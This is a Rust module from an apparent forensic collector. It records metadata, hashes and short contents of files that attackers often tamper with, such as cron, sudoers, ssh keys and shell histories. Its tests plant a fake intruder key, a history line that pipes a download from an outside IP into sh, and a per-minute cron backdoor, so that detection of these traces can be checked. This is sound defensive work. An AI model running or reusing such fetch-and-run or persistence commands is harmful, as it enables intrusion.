//! Small files that a reboot, a cleaner or the attacker removes: names, times and hashes, and the content of those
//! that are short and telling. Not a copy of the disk: the snapshot holds that. Bounded in number and size, and never
//! through a link that somebody may have laid.

use crate::host::{Host, open_untouched};
use crate::stream::hex;
use serde_json::json;
use sha2::{Digest as _, Sha256};
use std::io::Read as _;
use std::os::unix::fs::MetadataExt as _;
use std::path::Path;

/// The most entries in all.
const MOST_ENTRIES: usize = 20_000;
/// The most bytes of output.
const MOST_BYTES: usize = 16 << 20;
/// The largest file that is hashed.
const MOST_HASHED: u64 = 8 << 20;
/// The largest content that is taken; of a longer file its end.
const MOST_CONTENT: u64 = 64 << 10;

/// What is taken of the files below a folder.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Take {
    /// Their names and times.
    Names,
    /// Their hashes as well.
    Hashes,
    /// Their contents as well.
    Contents,
}

/// Where to look, how deep, and what to take. One `*` stands for any one name.
const PLACES: [(&str, usize, Take); 27] = [
    ("/etc/ld.so.preload", 0, Take::Contents),
    ("/etc/crontab", 0, Take::Contents),
    ("/etc/cron.d", 1, Take::Contents),
    ("/etc/cron.hourly", 1, Take::Contents),
    ("/etc/cron.daily", 1, Take::Hashes),
    ("/var/spool/cron", 2, Take::Contents),
    ("/var/spool/at", 1, Take::Contents),
    ("/etc/passwd", 0, Take::Contents),
    ("/etc/sudoers", 0, Take::Contents),
    ("/etc/sudoers.d", 1, Take::Contents),
    ("/etc/rc.local", 0, Take::Contents),
    ("/etc/hosts", 0, Take::Contents),
    ("/etc/resolv.conf", 0, Take::Contents),
    ("/etc/systemd/system", 2, Take::Contents),
    ("/run/systemd/system", 2, Take::Contents),
    ("/run/systemd/transient", 1, Take::Contents),
    ("/etc/ssh/sshd_config", 0, Take::Contents),
    ("/root/.ssh", 1, Take::Names),
    ("/home/*/.ssh", 1, Take::Names),
    ("/var/log/amazon/ssm", 1, Take::Contents),
    ("/run/containerd/io.containerd.runtime.v2.task", 2, Take::Names),
    ("/var/lib/docker/containers", 1, Take::Names),
    ("/dev/shm", 4, Take::Hashes),
    ("/tmp", 2, Take::Hashes),
    ("/var/tmp", 2, Take::Hashes),
    ("/run", 3, Take::Names),
    ("/var/run/secrets", 2, Take::Names),
];

/// Files of every user, by their name in the home folder.
const OF_USERS: [&str; 8] = [
    ".ssh/authorized_keys",
    ".bash_history",
    ".zsh_history",
    ".python_history",
    ".bashrc",
    ".profile",
    ".bash_profile",
    ".config/autostart",
];

/// The collected lines.
struct Listing<'a> {
    host: &'a Host,
    bytes: Vec<u8>,
    entries: usize,
    cut: bool,
}

/// The listing as JSON lines, and whether all of it fitted.
pub fn lines(host: &Host) -> (Vec<u8>, bool) {
    let mut listing = Listing { host, bytes: Vec::new(), entries: 0, cut: false };
    let users: Vec<String> = host.names("/home", 1000).into_iter().map(|name| format!("/home/{name}")).collect();
    for home in std::iter::once("/root").chain(users.iter().map(String::as_str)) {
        for name in OF_USERS {
            listing.visit(&format!("{home}/{name}"), 0, Take::Contents);
        }
    }
    for (place, depth, take) in PLACES {
        match place.split_once("/*/") {
            None => listing.visit(place, depth, take),
            Some((folder, rest)) => {
                for name in host.names(folder, 1000) {
                    listing.visit(&format!("{folder}/{name}/{rest}"), depth, take);
                }
            }
        }
    }
    if listing.cut {
        listing.bytes.extend_from_slice(b"{\"type\":\"cut\"}\n");
    }
    (listing.bytes, !listing.cut)
}

impl Listing<'_> {
    /// A file, or a folder and what is below it.
    fn visit(&mut self, name: &str, depth: usize, take: Take) {
        let path = self.host.path(name);
        let Ok(about) = path.symlink_metadata() else { return };
        if self.entries >= MOST_ENTRIES {
            self.cut = true;
            return;
        }
        self.entries += 1;
        let mut line = json!({
            "type": kind(&about),
            "path": name,
            "bytes": about.len(),
            "mode": format!("{:o}", about.mode()),
            "user": about.uid(),
            "group": about.gid(),
            "modifiedUnix": about.mtime(),
            "changedUnix": about.ctime(),
        });
        let mut add = |key: &str, value: serde_json::Value| {
            if let Some(fields) = line.as_object_mut() {
                fields.insert(key.to_owned(), value);
            }
        };
        if about.is_symlink() {
            add("target", json!(self.host.link(name)));
        } else if about.is_file() && take != Take::Names {
            match content(&path, take) {
                Ok((hash, content)) => {
                    add("sha256", json!(hash));
                    add("content", json!(content));
                }
                Err(error) => add("error", json!(error.to_string())),
            }
        }
        self.add(&line);
        if about.is_dir() && depth > 0 {
            for child in self.host.names(name, MOST_ENTRIES) {
                self.visit(&format!("{name}/{child}"), depth - 1, take);
            }
        }
    }

    fn add(&mut self, line: &serde_json::Value) {
        let text = format!("{line}\n");
        if self.bytes.len() + text.len() > MOST_BYTES {
            self.cut = true;
        } else {
            self.bytes.extend_from_slice(text.as_bytes());
        }
    }
}

fn kind(about: &std::fs::Metadata) -> &'static str {
    use std::os::unix::fs::FileTypeExt as _;
    let kind = about.file_type();
    match () {
        () if kind.is_file() => "file",
        () if kind.is_dir() => "folder",
        () if kind.is_symlink() => "link",
        () if kind.is_fifo() => "pipe",
        () if kind.is_socket() => "socket",
        () => "device",
    }
}

/// The hash of a file, unless it is too large, and its content or the end of it, where that is taken.
fn content(path: &Path, take: Take) -> std::io::Result<(Option<String>, Option<String>)> {
    let (file, about) = open_untouched(path)?;
    let mut hash = Sha256::new();
    let mut tail: Vec<u8> = Vec::new();
    let mut buffer = vec![0_u8; 64 << 10];
    // A file that grows while it is read ends too.
    let mut file = file.take(MOST_HASHED);
    loop {
        let read = file.read(&mut buffer)?;
        let Some(piece) = buffer.get(..read).filter(|piece| !piece.is_empty()) else { break };
        hash.update(piece);
        if take == Take::Contents {
            tail.extend_from_slice(piece);
            let most = usize::try_from(MOST_CONTENT).unwrap_or(usize::MAX);
            let over = tail.len().saturating_sub(most);
            tail.drain(..over);
        }
    }
    let whole = about.len() <= MOST_HASHED;
    let hash = whole.then(|| hex(&hash.finalize()));
    let content = (take == Take::Contents && whole).then(|| String::from_utf8_lossy(&tail).into_owned());
    Ok((hash, content))
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A folder in cargo's own place for tests, gone when dropped.
    struct Folder(std::path::PathBuf);

    impl Folder {
        fn new(name: &str) -> Self {
            let base = std::env::current_exe().expect("this test").parent().expect("a folder").join("collector-files");
            let folder = base.join(format!("{name}-{}", std::process::id()));
            std::fs::create_dir_all(&folder).expect("made");
            Self(folder)
        }

        fn put(&self, name: &str, content: &[u8]) {
            let path = self.0.join(name);
            std::fs::create_dir_all(path.parent().expect("a folder")).expect("made");
            std::fs::write(path, content).expect("written");
        }
    }

    impl Drop for Folder {
        fn drop(&mut self) {
            let _ = std::fs::remove_dir_all(&self.0);
        }
    }

    fn found(host: &Host) -> Vec<serde_json::Value> {
        let (bytes, whole) = lines(host);
        assert!(whole);
        bytes
            .split(|b| *b == b'\n')
            .filter(|l| !l.is_empty())
            .map(|l| serde_json::from_slice(l).expect("JSON"))
            .collect()
    }

    #[test]
    fn telling_files_are_taken_and_links_and_pipes_are_not_followed() {
        let folder = Folder::new("telling");
        folder.put("root/.ssh/authorized_keys", b"ssh-ed25519 AAAA intruder\n");
        folder.put("root/.ssh/id_ed25519", b"PRIVATE");
        folder.put("home/alice/.bash_history", b"curl http://203.0.113.9/x | sh\n");
        folder.put("etc/cron.d/backdoor", b"* * * * * root /dev/shm/.x\n");
        folder.put("dev/shm/.x", &vec![0x7F; 100_000]);
        folder.put("secret", b"not to be read by a link");
        std::os::unix::fs::symlink(folder.0.join("secret"), folder.0.join("etc/cron.d/link")).expect("linked");
        let pipe = folder.0.join("etc/cron.d/pipe");
        rustix::fs::mknodat(rustix::fs::CWD, &pipe, rustix::fs::FileType::Fifo, rustix::fs::Mode::RUSR, 0)
            .expect("a pipe");
        let lines = found(&Host::new(&folder.0));
        let at = |path: &str| lines.iter().find(|l| l["path"] == path).unwrap_or_else(|| panic!("{path}"));
        assert_eq!(at("/root/.ssh/authorized_keys")["content"], "ssh-ed25519 AAAA intruder\n");
        assert_eq!(at("/home/alice/.bash_history")["content"], "curl http://203.0.113.9/x | sh\n");
        assert_eq!(at("/dev/shm/.x")["sha256"], hex(&Sha256::digest(vec![0x7F; 100_000])));
        assert_eq!(at("/etc/cron.d/link")["type"], "link");
        assert_eq!(at("/etc/cron.d/pipe")["type"], "pipe");
        assert!(at("/root/.ssh/id_ed25519").get("sha256").is_none(), "a private key is named and not read");
        assert!(!lines.iter().any(|l| l.to_string().contains("not to be read")));
    }

    #[test]
    fn a_file_that_became_a_link_is_not_opened() {
        let folder = Folder::new("link");
        folder.put("secret", b"x");
        std::os::unix::fs::symlink(folder.0.join("secret"), folder.0.join("link")).expect("linked");
        assert!(open_untouched(&folder.0.join("link")).is_err());
        assert!(open_untouched(&folder.0).is_err(), "a folder is no file");
    }
}
